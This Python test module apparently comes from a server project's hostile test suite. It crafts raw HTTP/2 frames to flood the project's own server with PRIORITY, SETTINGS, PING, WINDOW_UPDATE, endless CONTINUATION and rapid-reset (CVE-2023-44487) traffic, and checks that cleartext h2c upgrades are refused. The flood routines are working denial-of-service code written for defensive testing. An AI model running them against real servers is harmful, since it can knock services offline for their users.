"""Cleartext HTTP/2: the ways in, and its floods (RFC 9113)."""

import asyncio
import struct
from typing import Final

from tests.hostile.attack import Attacker, attack, head
from tests.support.http import Connection
from tests.support.http2 import HTTP2Client

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
GET: Final = b"\x82\x86\x84\x41\x01a"
"""HPACK: GET, http, /, and an authority (RFC 7541, A)."""
POST: Final = b"\x83\x86\x44\x0b/api/events\x41\x01a"


def piece(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


async def begin(attacker: Attacker) -> Connection:
    """With prior knowledge: the preface and empty SETTINGS."""
    return await attacker.send(PREFACE + piece(SETTINGS, 0, 0))


async def flood(attacker: Attacker, data: bytes) -> None:
    """The same frames over and over, on a new connection whenever the server ends one; its answers thrown away."""
    while True:
        connection = await begin(attacker)
        async with asyncio.TaskGroup() as group:
            drain = group.create_task(attacker.is_let_go(connection, 3_600))
            pour = group.create_task(attacker.pour(connection, data))
            await asyncio.wait([drain, pour], return_when=asyncio.FIRST_COMPLETED)
            drain.cancel()
            pour.cancel()
        attacker.leave(connection)


@attack("h2-priorities", row="2", quick=1)
async def priorities(attacker: Attacker) -> None:
    """PRIORITY for idle streams: 68 KiB of it, once."""
    idle = b"".join(piece(PRIORITY, 0, 2 * n + 1, struct.pack(">IB", 0, 15)) for n in range(1, 900))
    connection = await begin(attacker)
    connection.writer.write((idle * 6)[: 68 << 10])
    await attacker.is_let_go(connection, 3_600)


@attack("h2-settings", row="2")
async def settings(attacker: Attacker) -> None:
    """SETTINGS, each to be acknowledged."""
    await flood(attacker, piece(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 1_000)


@attack("h2-pings", row="2")
async def pings(attacker: Attacker) -> None:
    """PING, each to be answered."""
    await flood(attacker, piece(PING, 0, 0, b"12345678") * 1_000)


@attack("h2-windows", row="2")
async def windows(attacker: Attacker) -> None:
    """WINDOW_UPDATE by one byte."""
    await flood(attacker, piece(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1_000)


@attack("h2-resets", row="2")
async def resets(attacker: Attacker) -> None:
    """Rapid reset: streams that are opened and reset at once (CVE-2023-44487)."""
    while True:
        connection = await begin(attacker)
        for start in range(1, 20_000, 400):
            streams = range(start, start + 400, 2)
            connection.writer.write(
                b"".join(
                    piece(HEADERS, END_HEADERS | END_STREAM, n, GET) + piece(RST_STREAM, 0, n, struct.pack(">I", 8))
                    for n in streams
                )
            )
            await connection.writer.drain()
        attacker.leave(connection)


@attack("h2-empty-data", row="2")
async def empty_data(attacker: Attacker) -> None:
    """DATA without data, for a body that never ends."""
    connection = await begin(attacker)
    connection.writer.write(piece(HEADERS, END_HEADERS, 1, POST))
    await attacker.pour(connection, piece(DATA, 0, 1) * 1_000)


@attack("h2-continuations", row="2")
async def continuations(attacker: Attacker) -> None:
    """CONTINUATION without end."""
    while True:
        connection = await begin(attacker)
        connection.writer.write(piece(HEADERS, 0, 1, GET))
        await attacker.pour(connection, piece(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 1_000)


@attack("h2-half", row="14", seconds=9.0, env={"TWINWIRE_SEND_TIMEOUT": "1"})
async def half(attacker: Attacker) -> None:
    """The preface, and no stream: the connection has to be let go."""
    attacker.must(await attacker.is_let_go(await begin(attacker), 8.0), "HTTP/2 without a stream is held")


@attack("h2-unread-answers", row="8", needs="large", quick=4, connections=(1, 20))
async def unread_answers(attacker: Attacker) -> None:
    """90 large reads on one connection that opens no window."""
    client = HTTP2Client(await attacker.connect(), 1)
    client.state.initiate_connection()
    for _ in range(90):
        await client.request("GET", "/api/events?after=earliest&limit=1000")
    await asyncio.Event().wait()


@attack("h2c-upgrade", row="3", connections=(1,))
async def upgrade(attacker: Attacker) -> None:
    """`Upgrade: h2c`: a tunnel through a proxy's rules. HTTP/1.1 has to go on."""
    asked = head("GET", "/api/health", Upgrade="h2c", Connection="Upgrade, HTTP2-Settings", HTTP2_Settings="AAMAAABk")
    answer = await (await attacker.send(asked)).read_head()
    attacker.must(answer.status != 101, "h2c: 101, so that a proxy sees only bytes")


@attack("h2-prior-knowledge", row="3", connections=(1,))
async def prior_knowledge(attacker: Attacker) -> None:
    """The preface of HTTP/2 in cleartext: the connection has to end."""
    connection = await begin(attacker)
    got = await connection.reader.read(9)
    attacker.must(got[3:4] != bytes([SETTINGS]), "HTTP/2 in cleartext is spoken")
